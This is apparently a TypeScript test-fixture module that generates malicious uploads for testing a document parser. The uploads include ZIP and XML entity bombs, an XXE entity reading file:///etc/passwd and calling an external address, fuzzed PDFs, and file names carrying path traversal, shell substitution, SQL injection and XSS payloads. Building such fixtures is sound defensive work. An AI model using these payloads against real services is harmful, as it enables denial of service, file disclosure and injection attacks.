import { crc32, deflateRawSync } from 'node:zlib'
import { docxOf } from '../text/extract/office.ts'
import { zipOf } from '../text/extract/zip-of.ts'
import type { File } from './client.ts'
import { pdf } from './pdf.ts'
import { random } from './random.ts'

/*
 * Files that mean harm, or look as if they did, made on the spot: none of them lies in the repository. Each gives what it is
 * uploaded as.
 */

const megabyte = 1024 ** 2

/** One file of a ZIP whose bytes unpack to `size` zeros, with an honest directory. */
const zeros = (name: string, size: number): Buffer => {
  const content = Buffer.alloc(size)
  const packed = deflateRawSync(content, { level: 9 })
  const path = Buffer.from(name)
  const facts = Buffer.alloc(26)
  facts.writeUInt16LE(20, 0)
  facts.writeUInt16LE(8, 4)
  facts.writeUInt32LE(crc32(content), 10)
  facts.writeUInt32LE(packed.length, 14)
  facts.writeUInt32LE(size, 18)
  facts.writeUInt16LE(path.length, 22)
  const local = Buffer.concat([Buffer.from('504b0304', 'hex'), facts, path, packed])
  const entry = Buffer.alloc(14)
  const central = Buffer.concat([Buffer.from('504b01021400', 'hex'), facts, entry, path])
  const end = Buffer.alloc(22)
  end.write('504b0506', 'hex')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, end])
}

/** A ZIP of a few hundred kilobytes that unpacks to hundreds of megabytes. */
export const zipBomb = (): File => ['bomb.zip', zeros('zeros.txt', 300 * megabyte)]

/** A ZIP of ZIPs, each harmless by its own measure, which unpack to more than a gigabyte of some thousand bytes. */
export const zipsOfZeros = async (): Promise<File> => {
  const inner = zeros('zeros.txt', 90 * megabyte)
  return [
    'zeros.zip',
    await zipOf({ 'first.txt': 'x', ...Object.fromEntries(Array.from({ length: 12 }, (_, n) => [`${n}.zip`, inner])) }),
  ]
}

/** A Word document of some kilobytes whose one word has millions of letters. */
export const docxBomb = async (): Promise<File> => ['bomb.docx', await docxOf(paragraph('a'.repeat(64 * megabyte)))]

/** ZIPs in ZIPs, ten of them on each of several levels: a billion files if all were unpacked. */
export const nestedZip = async (): Promise<File> => {
  let inner: Uint8Array = Buffer.from('The fee is 340 euros.')
  let name = 'fee.txt'
  for (let level = 0; level < 9; level++) {
    const extension = name.slice(name.lastIndexOf('.'))
    inner = await zipOf(Object.fromEntries(Array.from({ length: 10 }, (_, n) => [`${level}-${n}${extension}`, inner])))
    name = 'inner.zip'
  }
  return ['nested.zip', inner]
}

const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}"><!ENTITY d "${'&c;'.repeat(100)}"><!ENTITY e "${'&d;'.repeat(100)}">]>`
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`

/** Entities that stand for each other, a hundred times each. */
export const xmlBomb = async (): Promise<File> => ['laughs.docx', await docxOf(paragraph('Before &e; after'), laughs)]

/** Entities that name a file and an address. */
export const externalEntities = async (address: string): Promise<File> => {
  const named = `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY g SYSTEM "${address}/entity"><!ENTITY % h SYSTEM "${address}/parameter">%h;]>`
  return ['entities.docx', await docxOf(paragraph('Before &f; &g; after'), `<?xml version="1.0"?>${named}`)]
}

const healthy = () =>
  pdf(
    Array.from({ length: 3 }, (_, page) =>
      Array.from({ length: 20 }, (_, n) => `Line ${n} of page ${page}: the fee is ${n} euros.`),
    ),
  )

/** A PDF cut off in the middle, and right after its head. */
export const truncatedPdfs = (): File[] =>
  [0.02, 0.5, 0.95].map((share) => {
    const whole = healthy()
    return [`cut at ${share}.pdf`, whole.subarray(0, Math.floor(whole.length * share))]
  })

/** PDFs with bytes changed, left out, put in and moved, the same ones in every run. */
export const fuzzedPdfs = (count: number): File[] => {
  const next = random(7)
  const upTo = (most: number) => Math.floor(next() * most)
  return Array.from({ length: count }, (_, n): File => {
    let bytes = healthy()
    for (let change = 0; change <= upTo(12); change++) {
      const at = upTo(bytes.length)
      const length = 1 + upTo(40)
      const noise = Buffer.from(Array.from({ length }, () => upTo(256)))
      const kind = upTo(5)
      if (kind === 0) bytes[at] = upTo(256)
      if (kind === 1) bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + length)])
      if (kind === 2) bytes = Buffer.concat([bytes.subarray(0, at), noise, bytes.subarray(at)])
      if (kind === 3) bytes.copy(bytes, upTo(bytes.length), at, at + length)
      // A number in the structure: lengths, offsets, counts, references.
      if (kind === 4)
        bytes = Buffer.from(
          bytes.toString('latin1').replace(/\d+/g, (digits) => (upTo(60) === 0 ? String(upTo(2 ** 31)) : digits)),
          'latin1',
        )
    }
    return [`fuzzed ${n}.pdf`, bytes]
  })
}

/** A hundred megabytes without the end of a line, or of a word. */
export const longLine = (): File => ['line.txt', Buffer.alloc(100 * megabyte, 'x')]

/** Names that are no names, or lead somewhere else; each with a text of its own. */
export const oddNames = (): File[] =>
  [
    '../../escaped.md',
    '..\\..\\escaped too.md',
    '/etc/absolute.md',
    'C:\\Windows\\absolute.md',
    'nul\u0000byte.md',
    `${'long'.repeat(75)}.md`,
    'fee\u202efdp.md',
    'CON.md',
    'aux',
    '.',
    '..',
    '🦭 fees 🚢.md',
    '-rf ~.md',
    '$(touch escaped).md',
    "'; DROP TABLE document; --.md",
    '<img src=x onerror=alert(1)>.md',
  ].map((name, n) => [name, `# Note ${n}\n\nThe fee of berth ${n} is 340 euros.`])
